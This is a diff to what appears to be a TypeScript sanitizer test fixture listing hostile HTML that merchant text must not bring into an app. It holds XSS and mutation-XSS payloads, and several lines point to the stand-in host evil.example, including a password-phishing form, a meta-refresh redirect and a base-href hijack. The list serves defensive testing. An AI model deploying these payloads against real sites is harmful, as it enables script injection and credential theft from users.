@@ -1,7 +1,7 @@
 /**
- * HTML that a merchant's text must not bring into the app. In a page, each would run `pwned()`, load from another origin,
- * show a form, or change the look of the app. With the classics that turn hostile only when they are parsed a second
- * time (mutation XSS).
+ * HTML that a merchant's text must not bring into the app. In a page, each would run `pwned()`, load from another
+ * origin, show a form, or change the look of the app. With the classics that turn hostile only when they are parsed a
+ * second time (mutation XSS).
  */
 export const hostileHtml: readonly string[] = [
   '<script>pwned()</script>',
@@ -17,7 +17,7 @@ export const hostileHtml: readonly string[] = [
   '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"></use></svg>',
   '<math href="javascript:pwned()">click</math>',
   '<math><maction actiontype="statusline#" xlink:href="javascript:pwned()">click</maction></math>',
-  '<form action="https://evil.example"><input name="password"><button formaction="javascript:pwned()">Go</button></form>',
+  '<form action="https://evil.example"><input name="password"><button formaction="javascript:pwned()">Go</form>',
   '<meta http-equiv="refresh" content="0;url=https://evil.example">',
   '<base href="https://evil.example/"><a href="wallet">Wallet</a>',
   '<link rel="stylesheet" href="https://evil.example/x.css">',
